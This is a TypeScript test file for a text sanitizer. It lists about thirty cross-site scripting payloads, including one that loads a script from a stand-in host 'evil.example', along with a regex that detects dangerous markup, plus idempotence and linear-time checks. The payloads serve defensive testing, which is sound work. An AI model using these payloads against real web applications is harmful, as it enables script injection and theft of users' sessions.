import { describe, expect, test } from 'vitest';
import { sanitize } from './sanitize.ts';
import fc from './test-seed.ts';

/** Typical payloads for attacking a text field. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<body onload="alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav\tascript:alert(1)">click</a>',
  '<a href="java\nscript:alert(1)">click</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror='alert(1)'>",
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<b>script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<style>@import "javascript:alert(1)";</style>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  'javajavascript:script:alert(1)',
  'JaVaScRiPt:alert(1)',
  'onjavascript:click="alert(1)"',
  'onclick onclick="1"="2"',
  '<img/src/onerror=alert(1)>',
  '<script\n>alert(1)</script\t>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<object data="javascript:alert(1)"></object>',
];

const dangerous = /[<>]|javascript:|on(?:click|error|load|focus|toggle|start)\s*=/i;

describe('sanitize', () => {
  test('strips tags and keeps their content', { tags: ['R-5.1'] }, () => {
    expect(sanitize('<b>hi</b> there')).toBe('hi there');
  });

  test('strips script and style blocks with their content', { tags: ['R-5.2'] }, () => {
    expect(sanitize('a<script>alert(1)</script>b<style>p{}</style>c')).toBe('abc');
  });

  test('strips inline handlers in any letter case', { tags: ['R-5.3'] }, () => {
    expect(sanitize('say onclick="x()" and ONERROR=x now')).toBe('say  and  now');
    expect(sanitize("OnMouseOver = 'y' end")).toBe(' end');
    expect(sanitize('onwhatever="z"')).toBe('');
  });

  test('strips the javascript: prefix', { tags: ['R-5.4'] }, () => {
    expect(sanitize('JaVaScRiPt:alert(1)')).toBe('alert(1)');
  });

  test('strips angle brackets and keeps the text between them', { tags: ['R-5.5'] }, () => {
    expect(sanitize('2 < 3 > 1')).toBe('2  3  1');
    expect(sanitize('a < b')).toBe('a  b');
  });

  test('also strips markup that only forms when other parts are stripped', { tags: ['R-5.6'] }, () => {
    expect(sanitize('<scr<script>ipt>alert(1)</scr</script>ipt>')).not.toMatch(/[<>]/);
    expect(sanitize('javajavascript:script:x')).toBe('x');
    expect(sanitize('java<b>script:x')).toBe('x');
  });

  test.each(payloads)('leaves nothing executable in %s', { tags: ['R-5.6'] }, (payload) => {
    const clean = sanitize(payload);
    expect(clean).not.toMatch(dangerous);
    expect(sanitize(clean)).toBe(clean);
  });

  test.each([
    'one = 1, and twice = 2',
    'online = "yes"',
    'Tom & Jerry &amp; friends',
    'إلى اللقاء، مع السلامة',
    'é ñ ö n̈ 👩‍👩‍👧‍👦 🇪🇸',
    'JavaScript is a language: really',
    'a question of condition="x"?',
    'हिन्दी। ไทย 日本語、中文。',
  ])('keeps ordinary text: %s', (text) => {
    expect(sanitize(text)).toBe(text);
  });

  test('is idempotent and never lengthens the text', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<',
        '>',
        '</',
        'script',
        'style',
        'java',
        'javascript:',
        'on',
        'onclick',
        '=',
        '"',
        "'",
        ' ',
      ),
      fc.string({ unit: 'grapheme', maxLength: 4 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = pieces.join('');
        const clean = sanitize(text);
        expect(clean.length).toBeLessThanOrEqual(text.length);
        expect(clean).not.toMatch(/[<>]|javascript:/i);
        expect(sanitize(clean)).toBe(clean);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each([
    ['unclosed blocks', '<script>'.repeat(20_000)],
    ['nested prefixes', `${'java'.repeat(10_000)}${'javascript:'}${'script:'.repeat(10_000)}`],
    ['nested handlers', `${'onclick '.repeat(10_000)}${'="1"'.repeat(10_000)}`],
    ['brackets', '<'.repeat(160_000)],
  ])('takes linear time on %s', (_name, text) => {
    const started = performance.now();
    sanitize(text);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
